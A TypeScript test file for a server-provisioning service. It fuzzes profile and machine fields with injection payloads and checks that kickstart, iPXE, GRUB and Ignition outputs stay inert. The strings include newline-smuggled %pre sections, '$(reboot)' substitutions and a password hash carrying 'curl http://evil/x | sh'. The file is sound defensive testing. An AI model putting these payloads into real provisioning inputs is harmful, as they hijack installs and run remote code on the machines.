import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { parse as parseYaml } from 'yaml';
import { Config } from '../../server/config/schema.js';
import { RenderError } from '../../server/model/errors.js';
import { Machine } from '../../server/model/machine.js';
import { Profile } from '../../server/model/profile.js';
import type { Renderers } from '../../server/model/renderers.js';
import { createRenderers } from '../../server/render/renderers.js';
import { minimalProfile } from '../helpers/fixtures.js';
import { startTestService } from '../helpers/service.js';
import { config, CONVERGER_KEY, machinesDir, TOKEN, URLS } from './helpers.js';

/**
 * Finding 3: a rootPasswordHash of "$6$x$y\n%pre\n…\n%end" rendered a working %pre. Here every
 * string of a profile and a machine (found by walking the inputs, so a field added later is tried
 * too), and every key of their maps, gets each payload below appended and prepended. Each attempt
 * must be refused by the schema naming that field (the API's 400 issues), or refused by the
 * renderers naming it, or rendered so that it cannot start anything: the kickstart keeps its lines,
 * its sections and the words of each command, no shell line gains a backtick or $( outside single
 * quotes, the iPXE script keeps its lines and words and its ${…} count, the GRUB configuration its
 * lines, words, $ and operators outside quotes, the Ignition config parses
 * and the scripts and units kickstand writes into it keep their shape.
 */
const PAYLOADS: Record<string, string> = {
  newline: '\n%pre\nreboot\n%end\n',
  cr: '\r%post\rreboot',
  'single quote': "'",
  'double quote': '"',
  percent: '%',
  backtick: '`reboot`',
  'command substitution': '$(reboot)',
  expansion: '${reboot}',
  backslash: '\\',
};

const renderers = createRenderers(config, CONVERGER_KEY);
const MACS = ['52:54:00:00:10:01', '52:54:00:00:10:02', '52:54:00:00:10:03'];
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHVbm9Z6m3uVZb6xO9w5q0rQ2m6Hq1sY3S9m1k8a0bXc ops@example';
const HASH = '$6$rounds=4096$kickstand$yZ3VgO2Qj7D5fJf0x2ZC0s7zU7bq1mV8m0o9GmWJb4G6c8wqT2Yb4H8m8x8d6eQJvCwq2z7Tq4Y1kJ8bPz9Q10';

/** A Rocky profile with every optional field set, so that every string field is walked. */
const rockyAll = {
  name: 'all-fields',
  os: 'rocky-9',
  arch: 'x86_64',
  firmware: 'uefi',
  disks: [
    { name: 'sys0', path: '/dev/disk/by-id/virtio-sys0', sizeGiB: 40 },
    { name: 'sys1', path: '/dev/disk/by-path/pci-0000:3b:00.0-scsi-0:0:1:0', sizeGiB: 40 },
    { name: 'data0', path: '/dev/disk/by-id/wwn-0x5000c500a1b2c3d4' },
  ],
  storage: {
    layout: 'raid1',
    disks: ['sys0', 'sys1'],
    volumeGroup: 'vg_sys',
    volumes: [
      { name: 'root', mount: '/', fstype: 'xfs', sizeGiB: 10, grow: true },
      { name: 'swap', mount: 'swap', fstype: 'swap', sizeGiB: 1 },
    ],
    data: [{ disk: 'data0', mount: '/srv/data', fstype: 'xfs', label: 'data' }],
  },
  network: {
    interfaces: [{ role: 'data0', mtu: 9000 }, { role: 'data1' }, { role: 'mgmt0' }],
    bonds: [{ name: 'bond0', mode: '802.3ad', members: ['data0', 'data1'], options: 'miimon=100,lacp_rate=fast' }],
    vlans: [{ id: 100, parent: 'bond0', ipv4: 'static' }],
    bridges: [{ name: 'br0', members: ['mgmt0'], ipv4: 'dhcp' }],
    dns: ['10.0.0.53'],
    search: ['rack.example.net'],
  },
  rootPasswordHash: HASH,
  users: [{ name: 'ops', groups: ['wheel'], passwordHash: '$y$j9T$salt$hashhashhash', sshKeys: [KEY] }],
  timezone: 'Europe/Berlin',
  ntp: ['ntp.example.net', '10.0.0.123'],
  repos: [{ name: 'epel', baseurl: 'http://mirror.example.net/epel/9/x86_64?arch=x86_64&x=%20' }],
  packages: ['chrony', '@core', '-telnet'],
  kernelArgs: ['quiet', 'intel_iommu=on'],
  converge: [
    { name: 'pkgs', kind: 'packages', packages: ['jq'] },
    { name: 'conf', kind: 'file', path: '/etc/app.conf', content: 'a=1\n', owner: 'root', group: 'wheel', mode: '0640' },
    { name: 'tpl', kind: 'file', path: '/etc/motd', template: '{{machine.name}}\n' },
    { name: 'svc', kind: 'service', service: 'chronyd', restartOn: ['conf'] },
    { name: 'app', kind: 'container', container: 'app', image: 'quay.io/prometheus/node-exporter:v1.8.2', args: ['--net=host'], command: ['--help'] },
    { name: 'init', kind: 'command', run: 'touch /var/ready', creates: '/var/ready' },
    { name: 'hosts', kind: 'command', run: 'echo x >> /etc/hosts', unless: 'grep -q x /etc/hosts' },
  ],
};

/** An FCOS profile with the Ignition extras. */
const fcosAll = {
  name: 'all-fcos',
  os: 'fcos',
  firmware: 'uefi',
  disks: [
    { name: 'sys0', path: '/dev/disk/by-id/virtio-edge-sys0', sizeGiB: 40 },
    { name: 'data0', path: '/dev/disk/by-id/virtio-edge-data0' },
  ],
  storage: { layout: 'single', disks: ['sys0'], volumes: [{ name: 'root', mount: '/' }], data: [{ disk: 'data0', mount: '/var/srv', label: 'srv' }] },
  network: { interfaces: [{ role: 'data0', ipv4: 'dhcp' }], dns: ['10.0.0.53'], search: ['edge.example.net'] },
  rootPasswordHash: HASH,
  users: [{ name: 'core', groups: ['wheel'], passwordHash: '$6$x$y', sshKeys: [KEY] }],
  ignition: {
    version: '3.4.0',
    files: [{ path: '/etc/note', contents: 'provisioned\n', mode: 420 }],
    units: [{ name: 'hello.service', enabled: true, contents: '[Unit]\nDescription=hello\n' }],
  },
};

const rockyMachines = [
  {
    name: 'all-01',
    profile: 'all-fields',
    macs: MACS,
    nics: { data0: MACS[0], data1: MACS[1], mgmt0: MACS[2] },
    ipv4: { address: '10.0.10.21/24', gateway: '10.0.10.1', dns: ['10.0.0.54'] },
    ssh: { port: 22 },
    bmc: { driver: 'redfish', address: 'https://10.0.0.21/', username: 'admin', password: 'pw', tls: { verify: true, fingerprint: 'AB:'.repeat(31) + 'AB' }, systemId: 'System.Embedded.1', auth: 'session' },
    params: { console: 'ttyS0,115200n8', rack: 'a3' },
  },
  {
    name: 'all-02',
    profile: 'all-fields',
    macs: MACS,
    ipv4: { address: '10.0.10.22/24', gateway: '10.0.10.1' },
    bmc: { driver: 'redfish', address: 'https://bmc.example.net', username: 'admin', passwordFile: '/etc/kickstand/bmc/all-02', tls: { ca: '/etc/kickstand/ca.pem' } },
  },
  {
    name: 'all-03',
    profile: 'all-fields',
    macs: MACS,
    ipv4: { address: '10.0.10.23/24', gateway: '10.0.10.1' },
    bmc: { driver: 'ipmi', address: '10.0.0.31:623', username: 'admin', passwordFile: '/etc/kickstand/bmc/all-03' },
  },
];
const fcosMachine = { name: 'edge-09', profile: 'all-fcos', macs: [MACS[0]], bmc: { driver: 'manual' }, params: { console: 'ttyS0', rack: 'e1' } };

/** The example inventory as written (machines/*.yaml), before parsing. */
function exampleDocs(): Array<{ kind: string; name: string } & Record<string, unknown>> {
  const files = [...readdirSync(machinesDir).map((f) => join(machinesDir, f)), ...readdirSync(join(machinesDir, 'profiles')).map((f) => join(machinesDir, 'profiles', f))];
  return files.filter((f) => f.endsWith('.yaml')).map((f) => parseYaml(readFileSync(f, 'utf8')));
}
const strip = ({ kind: _kind, ...rest }: Record<string, unknown>) => rest;

type Path = Array<string | number>;
/** Every string leaf and every key of a map, by path. */
function walk(value: unknown, path: Path = [], out: Array<{ path: Path; key: boolean }> = []) {
  if (typeof value === 'string') out.push({ path, key: false });
  else if (Array.isArray(value)) value.forEach((v, i) => walk(v, [...path, i], out));
  else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) {
      out.push({ path: [...path, k], key: true });
      walk(v, [...path, k], out);
    }
  return out;
}

/** A copy of `input` with the string at `path` (or the key ending `path`) passed through `change`. */
function mutate(input: unknown, path: Path, key: boolean, change: (s: string) => string): { value: unknown; at: string } {
  const copy = structuredClone(input) as Record<string | number, unknown>;
  let o = copy;
  for (const p of path.slice(0, -1)) o = o[p] as Record<string | number, unknown>;
  const last = path.at(-1)!;
  if (!key) {
    o[last] = change(o[last] as string);
    return { value: copy, at: path.join('.') };
  }
  const renamed = change(String(last));
  const entries = Object.entries(o).map(([k, v]) => [k === last ? renamed : k, v]);
  for (const k of Object.keys(o)) delete o[k];
  Object.assign(o, Object.fromEntries(entries));
  return { value: copy, at: [...path.slice(0, -1), renamed].join('.') };
}

/** Renders what a machine of this profile is served: its install config and its install iPXE script. */
function outputs(r: Renderers, machine: Machine, profile: Profile) {
  const input = { machine, profile, token: TOKEN, base: URLS.base };
  const script = { ...input, mac: machine.macs[0] };
  return { config: r.config(profile.os === 'fcos' ? 'ignition' : 'kickstart', input), ipxe: r.ipxe('install', script), grub: r.grub('install', script) };
}

/* ---------- what "cannot start anything" means, per format ---------- */

const SHELL_SECTIONS = /^%(pre|post|onerror|pre-install|traceback)\b/;
/** shlex-like words of a kickstart command line: quotes group, backslash escapes. */
function words(line: string): string[] | 'unbalanced' {
  const out: string[] = [];
  let cur: string | undefined;
  let quote: string | undefined;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quote) {
      if (c === '\\' && quote === '"' && i + 1 < line.length) cur += line[++i];
      else if (c === quote) quote = undefined;
      else cur += c;
    } else if (/\s/.test(c)) {
      if (cur !== undefined) out.push(cur);
      cur = undefined;
    } else if (c === '"' || c === "'") {
      quote = c;
      cur ??= '';
    } else if (c === '\\' && i + 1 < line.length) cur = (cur ?? '') + line[++i];
    else cur = (cur ?? '') + c;
  }
  if (quote) return 'unbalanced';
  if (cur !== undefined) out.push(cur);
  return out;
}
/** A shell line with its single-quoted spans (inert) removed. */
const unquoted = (line: string) => line.replace(/'[^']*'/g, "''");
const count = (s: string, needle: string) => s.split(needle).length - 1;
const expansions = (s: string) => [count(s, '`'), count(s, '$('), count(s, '${'), count(s, "'") % 2, count(s.replace(/\\./g, ''), '"') % 2];

function kickstartDiff(base: string, text: string): string | undefined {
  const b = base.split('\n');
  const m = text.split('\n');
  if (m.length !== b.length) return `${m.length} lines instead of ${b.length}`;
  let section: string | undefined;
  for (let i = 0; i < b.length; i++) {
    const [bl, ml] = [b[i].trim(), m[i].trim()];
    if (/[\r\0]/.test(m[i])) return `line ${i + 1} holds a control character`;
    if (bl.startsWith('%') || ml.startsWith('%')) {
      if (bl !== ml) return `line ${i + 1} is "${ml}", the template has "${bl}"`;
      section = ml === '%end' ? undefined : ml;
      continue;
    }
    if (bl === ml) continue;
    if (section && SHELL_SECTIONS.test(section)) {
      if (JSON.stringify(expansions(unquoted(ml))) !== JSON.stringify(expansions(unquoted(bl)))) return `shell line ${i + 1} gains quoting or expansions: ${ml}`;
    } else if (section?.startsWith('%packages')) {
      if (/\s/.test(ml)) return `%packages line ${i + 1} is more than one name: ${ml}`;
    } else if (!bl.startsWith('#')) {
      const [bw, mw] = [words(bl), words(ml)];
      if (mw === 'unbalanced') return `line ${i + 1} has an unclosed quote: ${ml}`;
      if (bw === 'unbalanced' || mw.length !== bw.length || mw[0] !== bw[0]) return `command line ${i + 1} changes its words: ${ml}`;
    }
  }
  return undefined;
}

function ipxeDiff(base: string, text: string): string | undefined {
  const b = base.split('\n');
  const m = text.split('\n');
  if (m.length !== b.length) return `${m.length} lines instead of ${b.length}`;
  for (let i = 0; i < b.length; i++) {
    if (/[\r\0]/.test(m[i])) return `line ${i + 1} holds a control character`;
    if (m[i].split(/\s+/).length !== b[i].split(/\s+/).length) return `line ${i + 1} changes its words: ${m[i]}`;
    if (count(m[i], '${') !== count(b[i], '${') || /["'\\]/.test(m[i]) !== /["'\\]/.test(b[i])) return `line ${i + 1} gains an expansion or a quote: ${m[i]}`;
  }
  return undefined;
}

/**
 * GRUB parses like a shell: the same lines, each with the same words (quotes balanced), no new $
 * outside single quotes, and no new ; | & < > { } outside quotes (they would end or redirect the command).
 */
function grubDiff(base: string, text: string): string | undefined {
  const b = base.split('\n');
  const m = text.split('\n');
  if (m.length !== b.length) return `${m.length} lines instead of ${b.length}`;
  const bare = (line: string) => line.replace(/'[^']*'/g, "''").replace(/"[^"]*"/g, '""');
  for (let i = 0; i < b.length; i++) {
    if (m[i] === b[i]) continue;
    if (/[\r\0]/.test(m[i])) return `line ${i + 1} holds a control character`;
    const [bw, mw] = [words(b[i]), words(m[i])];
    if (mw === 'unbalanced') return `line ${i + 1} has an unclosed quote: ${m[i]}`;
    if (bw === 'unbalanced' || mw.length !== bw.length) return `line ${i + 1} changes its words: ${m[i]}`;
    if (count(unquoted(m[i]), '$') !== count(unquoted(b[i]), '$')) return `line ${i + 1} gains an expansion: ${m[i]}`;
    if (/[;|&<>{}]/.test(bare(m[i])) !== /[;|&<>{}]/.test(bare(b[i]))) return `line ${i + 1} gains an operator: ${m[i]}`;
  }
  return undefined;
}

type Ignition = { storage: { files: Array<{ path: string; contents: { source: string } }> }; systemd: { units: Array<{ name: string; contents?: string }> }; passwd: { users: unknown[] } };
const KICKSTAND_FILES = ['/etc/hostname', '/usr/local/bin/kickstand-report'];
const decoded = (source: string) => decodeURIComponent(source.replace(/^data:,/, ''));
function ignitionDiff(base: string, text: string): string | undefined {
  let doc: Ignition;
  try {
    doc = JSON.parse(text);
  } catch (err) {
    return `not JSON: ${(err as Error).message}`;
  }
  const was = JSON.parse(base) as Ignition;
  if (doc.passwd.users.length !== was.passwd.users.length) return 'a different number of users';
  // what kickstand writes itself: the report script, /etc/hostname, its units (the profile's own files and units are free text, JSON-escaped)
  for (const f of was.storage.files.filter((f) => KICKSTAND_FILES.includes(f.path))) {
    const now = doc.storage.files.find((x) => x.path === f.path);
    if (!now) return `${f.path} is gone`;
    const d = kickstartLikeShell(decoded(f.contents.source), decoded(now.contents.source));
    if (d) return `${f.path}: ${d}`;
  }
  for (const u of was.systemd.units.filter((u) => u.name === 'kickstand-report.service' || u.name.endsWith('.mount'))) {
    const now = doc.systemd.units.find((x) => x.name === u.name);
    if (!now) return `unit ${u.name} is gone`;
    if ((now.contents ?? '').split('\n').length !== (u.contents ?? '').split('\n').length) return `unit ${u.name} changes its lines`;
    if (count(now.contents ?? '', '%') !== count(u.contents ?? '', '%')) return `unit ${u.name} gains a % specifier`;
  }
  return undefined;
}
function kickstartLikeShell(base: string, text: string): string | undefined {
  const b = base.split('\n');
  const m = text.split('\n');
  if (m.length !== b.length) return `${m.length} lines instead of ${b.length}`;
  for (let i = 0; i < b.length; i++)
    if (m[i] !== b[i] && JSON.stringify(expansions(unquoted(m[i]))) !== JSON.stringify(expansions(unquoted(b[i])))) return `line ${i + 1} gains quoting or expansions: ${m[i]}`;
  return undefined;
}

/* ---------- the walk ---------- */

interface Case {
  label: string;
  /** the side being broken and its pair */
  kind: 'profile' | 'machine';
  profile: unknown;
  machine: unknown;
}

function attempt(c: Case, at: string, profileInput: unknown, machineInput: unknown, base: { config: string; ipxe: string; grub: string; os: string }): string | undefined {
  const schema = c.kind === 'profile' ? Profile : Machine;
  const parsed = schema.safeParse(c.kind === 'profile' ? profileInput : machineInput);
  if (!parsed.success) {
    const paths = parsed.error.issues.map((i) => i.path.join('.'));
    return paths.some((p) => p === at || p.startsWith(`${at}.`)) ? undefined : `refused, but naming ${paths.join(', ')} instead of ${at}`;
  }
  const profile = c.kind === 'profile' ? (parsed.data as Profile) : Profile.parse(profileInput);
  const machine = c.kind === 'machine' ? (parsed.data as Machine) : Machine.parse(machineInput);
  let out: { config: string; ipxe: string; grub: string };
  try {
    out = outputs(renderers, machine, profile);
  } catch (err) {
    if (!(err instanceof RenderError)) return `render threw ${(err as Error).message}`;
    const paths = err.problems.map((p) => p.path);
    return paths.some((p) => p === at || p.startsWith(`${at}.`)) ? undefined : `render refused, naming ${paths.join(', ')} instead of ${at}`;
  }
  const configDiff = base.os === 'fcos' ? ignitionDiff(base.config, out.config) : kickstartDiff(base.config, out.config);
  if (configDiff) return `rendered: ${configDiff}`;
  const scriptDiff = ipxeDiff(base.ipxe, out.ipxe);
  if (scriptDiff) return `iPXE: ${scriptDiff}`;
  const grub = grubDiff(base.grub, out.grub);
  return grub ? `GRUB: ${grub}` : undefined;
}

/**
 * Keys of maps (nics roles, params names) are values too; the keys of fixed fields are not: an
 * unknown key is dropped by the schema. A key is a map key when a harmless new name survives parsing.
 */
function isMapKey(c: Case, path: Path): boolean {
  const target = c.kind === 'profile' ? c.profile : c.machine;
  const probe = 'probe9';
  const { value } = mutate(target, path, true, () => probe);
  const parsed = (c.kind === 'profile' ? Profile : Machine).safeParse(value);
  if (!parsed.success) return parsed.error.issues.some((i) => i.path.includes(probe));
  let o: unknown = parsed.data;
  for (const p of path.slice(0, -1)) o = (o as Record<string | number, unknown>)?.[p];
  return !!o && typeof o === 'object' && probe in o;
}

function tryEveryField(c: Case): { tried: number; failures: string[] } {
  const baseProfile = Profile.parse(c.profile);
  const baseMachine = Machine.parse(c.machine);
  const rendered = outputs(renderers, baseMachine, baseProfile);
  const base = { ...rendered, os: baseProfile.os };
  const failures: string[] = [];
  let tried = 0;
  const target = c.kind === 'profile' ? c.profile : c.machine;
  for (const { path, key } of walk(target)) {
    if (key && !isMapKey(c, path)) continue;
    for (const [name, payload] of Object.entries(PAYLOADS))
      for (const [where, change] of [
        ['after', (s: string) => s + payload],
        ['before', (s: string) => payload + s],
      ] as const) {
        const { value, at } = mutate(target, path, key, change);
        tried++;
        const why = attempt(c, at, c.kind === 'profile' ? value : c.profile, c.kind === 'machine' ? value : c.machine, base);
        if (why) failures.push(`${c.kind} ${key ? 'key ' : ''}${path.join('.')} + ${name} (${where}): ${why}`);
      }
  }
  return { tried, failures };
}

const examples = exampleDocs();
const cases: Case[] = [
  { label: 'a Rocky profile with every field', kind: 'profile', profile: rockyAll, machine: rockyMachines[0] },
  ...rockyMachines.map((m) => ({ label: `a machine with bmc ${m.bmc.driver} ${'password' in m.bmc ? 'password' : 'passwordFile'}`, kind: 'machine' as const, profile: rockyAll, machine: m })),
  { label: 'an FCOS profile with Ignition extras', kind: 'profile', profile: fcosAll, machine: fcosMachine },
  { label: 'an FCOS machine', kind: 'machine', profile: fcosAll, machine: fcosMachine },
  ...examples
    .filter((d) => d.kind === 'machine')
    .flatMap((m) => {
      const p = examples.find((d) => d.kind === 'profile' && d.name === m.profile)!;
      return [
        { label: `example profile ${p.name}`, kind: 'profile' as const, profile: strip(p), machine: strip(m) },
        { label: `example machine ${m.name}`, kind: 'machine' as const, profile: strip(p), machine: strip(m) },
      ];
    }),
];

for (const kind of ['profile', 'machine'] as const)
  t.test(`every string of every ${kind} (fixtures and examples): refused naming the field, or rendered without breaking out`, async (t) => {
    for (const c of cases.filter((c) => c.kind === kind)) {
      const { tried, failures } = tryEveryField(c);
      t.ok(tried > 0, `${c.label}: ${tried} attempts`);
      t.same(failures, [], `${c.label}: ${failures.length} of ${tried} attempts got through`);
    }
    if (kind === 'profile') {
      await t.test('the fixtures hold every string field of the schemas', (t) => coverage(t));
      await t.test('free text stays free: file contents and converge commands take any payload and still render', (t) => freeText(t));
    }
  });

/** The walk only tries what the fixtures hold: they must hold every string field the schemas declare. */
async function coverage(t: Test) {
  const paths = (v: unknown) => new Set(walk(v).filter((w) => !w.key).map((w) => w.path.map((p) => (typeof p === 'number' ? 'N' : p)).join('.')));
  const profileFields = new Set([...paths(rockyAll), ...paths(fcosAll)]);
  for (const f of [
    'name', 'disks.N.path', 'storage.volumes.N.mount', 'storage.data.N.mount', 'storage.data.N.label', 'network.bonds.N.options',
    'network.vlans.N.parent', 'network.bridges.N.members.N', 'network.search.N', 'rootPasswordHash', 'users.N.name', 'users.N.sshKeys.N',
    'users.N.groups.N', 'users.N.passwordHash', 'timezone', 'ntp.N', 'repos.N.baseurl', 'packages.N', 'kernelArgs.N',
    'ignition.files.N.path', 'ignition.units.N.name', 'converge.N.path', 'converge.N.owner', 'converge.N.image', 'converge.N.creates',
  ])
    t.ok(profileFields.has(f), `profile ${f}`);
  const machineFields = new Set(rockyMachines.flatMap((m) => [...paths(m)]));
  for (const f of ['name', 'macs.N', 'profile', 'nics.data0', 'ipv4.address', 'ipv4.gateway', 'ipv4.dns.N', 'bmc.address', 'bmc.username', 'bmc.password', 'bmc.passwordFile', 'bmc.tls.ca', 'bmc.tls.fingerprint', 'bmc.systemId', 'params.console', 'params.rack'])
    t.ok(machineFields.has(f), `machine ${f}`);
}

/** The other side of refusing: fields that are free text by design must not be refused (their escaping is the format's). */
async function freeText(t: Test) {
  const all = Object.values(PAYLOADS).join('');
  const p = Profile.parse({
    ...fcosAll,
    ignition: { ...fcosAll.ignition, files: [{ path: '/etc/note', contents: all }], units: [{ name: 'hello.service', contents: all }] },
    converge: [{ name: 'c', kind: 'command', run: all, unless: all }, { name: 'f', kind: 'file', path: '/etc/f', content: all }],
  });
  const doc = JSON.parse(renderers.config('ignition', { machine: Machine.parse(fcosMachine), profile: p, token: TOKEN, base: URLS.base }));
  t.equal(decodeURIComponent(doc.storage.files.find((f: { path: string }) => f.path === '/etc/note').contents.source.replace(/^data:,/, '')), all, 'file contents arrive as written');
  t.equal(doc.systemd.units.find((u: { name: string }) => u.name === 'hello.service').contents, all, 'unit contents too');
}

t.test('the reported attack: a root hash carrying a %pre section is a 400 naming rootPasswordHash', async (t) => {
  const { api } = await startTestService(t);
  const res = await api('POST', '/api/v1/profiles', { ...minimalProfile('p1'), rootPasswordHash: '$6$x$y\n%pre --interpreter=/bin/sh\ncurl http://evil/x | sh\n%end' });
  t.equal(res.status, 400);
  t.same(res.json.issues.map((i: { path: string }) => i.path), ['rootPasswordHash']);
  const user = await api('POST', '/api/v1/profiles', { ...minimalProfile('p2'), users: [{ name: 'ops', passwordHash: '$6$x$y --lock\n%post\nreboot\n%end' }] });
  t.equal(user.status, 400);
  t.same(user.json.issues.map((i: { path: string }) => i.path), ['users.0.passwordHash']);
});

t.test('values from the config are held to the same rules: a mirror URL with shell in it does not render', async (t) => {
  const bad = createRenderers(Config.parse({ mirrors: { 'rocky-9': "http://10.0.0.5/os'$(reboot)'" } }), CONVERGER_KEY);
  const input = { machine: Machine.parse(rockyMachines[0]), profile: Profile.parse(rockyAll), token: TOKEN, base: URLS.base };
  const ks = t.throws(() => bad.config('kickstart', input)) as RenderError;
  t.type(ks, RenderError);
  t.same(ks.problems?.map((p) => p.path), ['install.url'], 'the kickstart names the view field');
  const ipxe = t.throws(() => bad.ipxe('install', { ...input, mac: MACS[0] })) as RenderError;
  t.type(ipxe, RenderError);
  t.same(ipxe.problems?.map((p) => p.path), ['args'], 'the iPXE script names the kernel line');
});

t.test('a forged Host header cannot put shell into the callbacks: the base URL is refused', async (t) => {
  const p = Profile.parse(rockyAll);
  const m = Machine.parse(rockyMachines[0]);
  for (const base of [`${URLS.base}'$(reboot)'`, `${URLS.base}/x\n%pre`, 'http://10.0.0.1:8080/${x}', 'http://a b']) {
    const err = t.throws(() => renderers.config('kickstart', { machine: m, profile: p, token: TOKEN, base })) as RenderError;
    t.type(err, RenderError, JSON.stringify(base));
    t.same(err.problems?.map((x) => x.path), ['base']);
    t.throws(() => renderers.ipxe('error', { machine: m, profile: p, mac: m.macs[0], base, error: 'x' }), RenderError, 'nor an error script');
  }
});
